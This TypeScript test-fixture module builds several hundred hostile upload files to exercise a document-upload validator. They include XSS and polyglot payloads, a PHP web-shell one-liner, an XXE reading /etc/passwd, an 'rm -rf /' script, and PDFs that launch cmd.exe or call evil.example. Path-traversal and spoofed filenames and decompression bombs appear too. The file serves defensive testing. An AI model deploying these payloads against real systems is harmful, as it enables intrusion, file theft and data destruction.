import { deflateSync, gzipSync } from 'node:zlib';
import { FILE_TYPES } from '#domain/documents/fileLimits.ts';
import { compound, contentTypes, docx, jpeg, part, pdf, png, SAMPLES, txt, WORD_BODY } from './samples.ts';
import { zipOf } from './zip.ts';

/** A file that somebody might send to do harm. */
export interface HostileFile {
  family: string;
  filename: string;
  bytes: Buffer;
  /** True when it must not be stored; otherwise it may be, for it can do nothing when it is handed out. */
  refused: boolean;
}

type Sample = keyof typeof SAMPLES;
const SAMPLE_NAMES = Object.keys(SAMPLES) as Sample[];
const EXTENSIONS = Object.keys(FILE_TYPES) as (keyof typeof FILE_TYPES)[];
const BINARY = SAMPLE_NAMES.filter((name) => name !== 'txt');
const text = (content: string): Buffer => Buffer.from(content, 'utf8');
const raw = (content: string): Buffer => Buffer.from(content, 'latin1');

function* make(family: string, refused: boolean, files: Iterable<[filename: string, bytes: Buffer]>): Generator<HostileFile> {
  for (const [filename, bytes] of files) yield { family, filename, bytes, refused };
}

/** Endings of programs, pages, archives and of nothing: an honest file under one of them is refused. */
const OTHER_ENDINGS = `exe com scr msi dll bat cmd ps1 vbs js mjs jar sh php phtml asp aspx jsp cgi py html htm xhtml shtml svg xml mhtml
  swf hta lnk url iso zip rar 7z gz tar docm dotm xlsx xlsm pptx rtf odt gif bmp webp tiff heic ico csv json eml ics vcf`.split(/\s+/);
function* underOtherEndings(): Generator<[string, Buffer]> {
  for (const [i, ending] of OTHER_ENDINGS.entries()) yield [`paper.${ending}`, SAMPLES[SAMPLE_NAMES[i % SAMPLE_NAMES.length]!]()];
  for (const name of SAMPLE_NAMES) yield ['paper', SAMPLES[name]()];
}
function* underEachOther(): Generator<[string, Buffer]> {
  for (const is of SAMPLE_NAMES)
    for (const says of EXTENSIONS.filter((e) => FILE_TYPES[e] !== FILE_TYPES[is])) yield [`paper.${says}`, SAMPLES[is]()];
}

const FOREIGN: Readonly<Record<string, Buffer>> = {
  gif: Buffer.concat([raw('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;')]),
  gifScript: raw('GIF89a=1;alert(document.domain)//'),
  bmp: Buffer.concat([raw('BM'), Buffer.alloc(60, 1)]),
  tiff: Buffer.concat([raw('II*\0\x08\0\0\0\0\0'), Buffer.alloc(20)]),
  webp: Buffer.concat([raw('RIFF\x1a\0\0\0WEBPVP8 '), Buffer.alloc(20)]),
  zip: zipOf([part('a.txt', 'x')]),
  jar: zipOf([part('META-INF/MANIFEST.MF', 'Main-Class: X'), part('X.class', '\xca\xfe\xba\xbe')]),
  xlsx: zipOf([
    contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
    part('xl/workbook.xml', '<x/>'),
  ]),
  xls: compound(['Workbook']),
  msi: compound(['\u4840\u3f3f', 'SummaryInformation']),
  gz: gzipSync('x'),
  rar: raw('Rar!\x1a\x07\x01\0aaaa'),
  seven: raw('7z\xbc\xaf\x27\x1c\0\x04aaaa'),
  exe: Buffer.concat([raw('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), Buffer.alloc(80)]),
  elf: Buffer.concat([raw('\x7fELF\x02\x01\x01\0'), Buffer.alloc(40)]),
  javaClass: raw('\xca\xfe\xba\xbe\0\0\x004'),
  mp3: raw('ID3\x03\0\0\0\0\0\x0a\xff\xfb\x90\0'),
  rtf: raw('{\\rtf1{\\object\\objocx}}'),
  postscript: raw('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  shell: raw('#!/bin/sh\nrm -rf /\n'),
  html: text('<!DOCTYPE html><html><body onload=alert(1)></body></html>'),
  svg: text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'),
  xml: text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
  php: text('<?php system($_GET["c"]); ?>'),
  noise: Buffer.from(Array.from({ length: 600 }, (_, i) => (i * 197 + 83) % 256)),
};
function* foreign(): Generator<[string, Buffer]> {
  for (const [kind, bytes] of Object.entries(FOREIGN)) for (const ending of EXTENSIONS) yield [`${kind}.${ending}`, bytes];
}

const PAGES = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example>',
  '<html><head></head></html>',
  '<!doctype html>hello',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<a href="#" onclick = "alert(1)">x</a>',
  '<object data="x.swf"></object>',
  '<embed src="x">',
  '<?php echo 1 ?>',
  '<math><mtext></mtext></math>',
  '<![CDATA[<script>alert(1)</script>]]>',
];
function* pagesAsText(): Generator<[string, Buffer]> {
  for (const [i, page] of PAGES.entries()) {
    yield [`page${i}.txt`, text(page)];
    yield [`bom${i}.txt`, text(`\u{FEFF}${page}`)];
    yield [`late${i}.txt`, text(`${'An ordinary line of an ordinary statement.\r\n'.repeat(9000)}${page}`)];
    yield [`spaces${i}.txt`, text(`${' '.repeat(70_000)}\n${page}\n`)];
  }
}

const TAILS: Readonly<Record<string, Buffer>> = {
  page: text('<html><script>alert(1)</script></html>'),
  zip: FOREIGN['zip']!,
  pdf: pdf(),
  exe: FOREIGN['exe']!,
  php: FOREIGN['php']!,
  rar: FOREIGN['rar']!,
  shell: FOREIGN['shell']!,
};
function* withTail(kinds: readonly Sample[]): Generator<[string, Buffer]> {
  for (const kind of kinds)
    for (const [what, tail] of Object.entries(TAILS).filter(([tailKind]) => tailKind !== kind))
      yield [`${what}.${kind}`, Buffer.concat([SAMPLES[kind](), tail])];
}
function* withHead(): Generator<[string, Buffer]> {
  for (const kind of BINARY)
    for (const [what, head] of Object.entries(TAILS).filter(([headKind]) => headKind !== kind))
      yield [`${what}.${kind}`, Buffer.concat([head, SAMPLES[kind]()])];
}
function* cutOff(): Generator<[string, Buffer]> {
  for (const kind of BINARY) {
    const whole = SAMPLES[kind]();
    for (const share of [0.01, 0.05, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9])
      yield [`cut.${kind}`, whole.subarray(0, Math.ceil(whole.length * share))];
    yield [`cut.${kind}`, whole.subarray(0, -3)];
  }
}
function* brokenText(): Generator<[string, Buffer]> {
  for (const code of [0, 1, 2, 7, 8, 11, 14, 27, 31, 127])
    for (const at of ['start', 'end'])
      yield [`control.txt`, text(at === 'start' ? `${String.fromCharCode(code)}text` : `text${String.fromCharCode(code)}`)];
  const malformed = ['ff', 'c080', 'eda080', 'f8888080', 'e28', 'fffe6100', 'feff0061', 'f09f9a'].map((hex) =>
    Buffer.from(hex.padEnd(hex.length + (hex.length % 2), '0'), 'hex'),
  );
  for (const bytes of malformed) yield ['malformed.txt', Buffer.concat([text('text '), bytes])];
}

const hugeSizes: [number, number][] = [
  [20_000, 20_000],
  [40_000_001, 1],
  [1, 40_000_001],
  [0x7fffffff, 0x7fffffff],
  [0xffffffff, 1],
  [0, 0],
  [0, 100],
  [8001, 5000],
];
function* hugeImages(): Generator<[string, Buffer]> {
  for (const [width, height] of hugeSizes) yield [`huge.png`, png(width, height)];
  for (const [width, height] of [
    [65_535, 65_535],
    [20_000, 20_000],
    [0, 9],
    [9, 0],
  ] as const)
    yield [`huge.jpg`, jpeg(width, height)];
}

const MB = 1024 * 1024;
const zeros = (name: string, megabytes: number) => ({ name, bytes: Buffer.alloc(megabytes * MB) });
function* wordBombs(): Generator<[string, Buffer]> {
  const filler = { ...zeros('word/media/a.bin', 30) };
  const archives = [
    docx([zeros('word/media/zeros.bin', 101)]),
    docx([filler, { ...filler, name: 'b' }, { ...filler, name: 'c' }, { ...filler, name: 'd' }]),
    docx([{ ...filler, says: 10 }]),
    docx([{ ...filler, says: 0xfffffff0 }]),
    docx(Array.from({ length: 10_001 }, (_, i) => part(`word/${i}.xml`, ''))),
    docx([{ ...part('word/a.xml', 'secret'), flags: 1 }]),
    docx([WORD_BODY]),
    docx([part('../../../../etc/cron.d/x', 'x')]),
    docx([part('/etc/passwd', 'x')]),
    docx([part('C:\\Windows\\x', 'x')]),
    docx([part('word\\..\\..\\x', 'x')]),
    docx([part('word/vbaProject.bin', 'x')]),
    docx([part('word/vbaData.xml', 'x')]),
    docx([part('word/embeddings/run.exe', 'MZ')]),
    docx([part('word/media/pic.svg', '<svg/>')]),
    docx([part('word/afchunk.html', '<script>')]),
    docx([part('x.js', '1')]),
    docx([], '<script>alert(1)</script>'),
    zipOf([contentTypes()]),
    zipOf([WORD_BODY]),
    zipOf([contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'), WORD_BODY]),
    zipOf([contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'), WORD_BODY]),
    zipOf([]),
  ];
  for (const [i, bytes] of archives.entries()) yield [`bomb${i}.docx`, bytes];
}
function* wordDocs(): Generator<[string, Buffer]> {
  for (const names of [
    ['WordDocument', '_VBA_PROJECT'],
    ['WordDocument', 'Macros'],
    ['WordDocument', 'VBA'],
    ['PowerPoint Document'],
    ['Book'],
    [],
  ])
    yield ['macros.doc', compound(names)];
  for (const [at, value] of [
    [26, 9],
    [30, 31],
    [48, 0xfffffff0],
    [76, 0xfffffffe],
    [512 + 4, 1],
    [512 + 8, 2],
    [512 + 12, 0x00ffffff],
  ] as const) {
    const bytes = compound(['WordDocument']);
    if (at >= 44) bytes.writeUInt32LE(value, at);
    else bytes.writeUInt16LE(value, at);
    yield [`broken${at}.doc`, bytes];
  }
}
function* brokenPdfs(): Generator<[string, Buffer]> {
  const whole = pdf().toString('latin1');
  for (const bytes of [
    ` ${whole}`,
    `\xef\xbb\xbf${whole}`,
    whole.replace('%PDF-1.4', '%PDF-x.y'),
    whole.replace('%%EOF\n', ''),
    whole.replace(/startxref\n\d+/, 'startxref\n99999999'),
    whole.replace(/startxref\n\d+/, ''),
    `${whole}<!-- -->`,
    whole.replace('%PDF-1.4\n', '%PDF-1.4\n<html><script>alert(1)</script></html>\n'),
    whole.replace('%PDF-1.4\n', '%PDF-1.4\n%<svg onload=alert(1)>\n'),
    '%PDF-1.7\n%%EOF',
    '%PDF-',
  ])
    yield ['broken.pdf', raw(bytes)];
}
function* activePdfs(): Generator<[string, Buffer]> {
  for (const action of [
    '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
    '/OpenAction << /S /Launch /F (cmd.exe) >>',
    '/AA << /O << /S /URI /URI (http://evil.example) >> >>',
    '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
    '/AcroForm << /XFA 9 0 R >>',
    '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>',
  ])
    yield ['active.pdf', raw(pdf().toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`))];
}

/** Bytes are honest here; only the name is not. */
const NAMES: readonly [name: string, refused: boolean][] = [
  ['../../../../etc/passwd.pdf', false],
  ['..\\..\\windows\\system32\\x.pdf', false],
  ['/etc/x.pdf', false],
  ['C:\\fakepath\\x.pdf', false],
  ['x.pdf\0.exe', true],
  ['x.exe\0.pdf', false],
  ['x.pdf\r\nSet-Cookie: a=b', true],
  ['x\r\nContent-Type: text/html\r\n\r\n.pdf', false],
  ['invoice\u202Efdp.exe', true],
  ['invoice\u202Eexe.pdf', false],
  ['\u2066x\u2069.pdf', false],
  ['x.pdf.exe', true],
  ['x.html.pdf', false],
  ['x.php.pdf', false],
  ['x.pdf.', false],
  ['x.pdf ', false],
  ['x.pdf::$DATA', true],
  ['.pdf', true],
  ['....pdf', true],
  ['..', true],
  ['.htaccess', true],
  [`${'a'.repeat(5000)}.pdf`, false],
  [`${'🚚'.repeat(900)}.pdf`, false],
  ['"; filename="evil.html.pdf', false],
  ["x'%27;%0d%0a.pdf", false],
  ['<img src=x onerror=alert(1)>.pdf', false],
  ['=cmd|calc!A1.pdf', false],
  ['CON.pdf', false],
  ['x.PdF', false],
  ['x.рdf', true],
  ['x.pdf/', true],
];

/** Some 600 files, each of a family; the same ones every time. */
export function* hostileFiles(): Generator<HostileFile> {
  yield* make('another ending', true, underOtherEndings());
  yield* make('the ending of another type', true, underEachOther());
  yield* make('another format', true, foreign());
  yield* make('a page as text', true, pagesAsText());
  yield* make('something behind it', true, withTail(['png', 'jpg', 'pdf', 'docx']));
  yield* make('something behind a .doc, where readers do not look', false, withTail(['doc']));
  yield* make('something before it', true, withHead());
  yield* make('cut off', true, cutOff());
  yield* make(
    'nothing',
    true,
    EXTENSIONS.map((ending): [string, Buffer] => [`nothing.${ending}`, Buffer.alloc(0)]),
  );
  yield* make('broken text', true, brokenText());
  yield* make('a huge image', true, hugeImages());
  yield* make('a bomb or a broken archive', true, wordBombs());
  yield* make('a broken or active .doc', true, wordDocs());
  yield* make('a broken .pdf', true, brokenPdfs());
  yield* make('an active .pdf', false, activePdfs());
  for (const [filename, refused] of NAMES) yield { family: 'a name', filename, bytes: pdf(), refused };
  yield* make('packed pixels', false, [['bomb.png', Buffer.concat([png().subarray(0, -12), itxtBomb(), png().subarray(-12)])]]);
  yield* make('script in a comment', false, [['comment.jpg', commented()]]);
  yield* make('a formula', false, [
    ['formula.txt', text('=HYPERLINK("http://evil.example")\r\n@SUM(1)\r\n')],
    ['honest.txt', txt()],
  ]);
}

/** A text chunk that unpacks to 30 MB. */
function itxtBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(30 * MB));
  const chunk = Buffer.concat([Buffer.alloc(4), raw('zTXt'), raw('a\0\0'), packed, Buffer.alloc(4)]);
  chunk.writeUInt32BE(packed.length + 3);
  return chunk;
}

function commented(): Buffer {
  const words = raw('*/=1;alert(1)/*<script>alert(1)</script>');
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, words.length + 2]), words]);
  const picture = jpeg();
  return Buffer.concat([picture.subarray(0, 2), comment, picture.subarray(2)]);
}
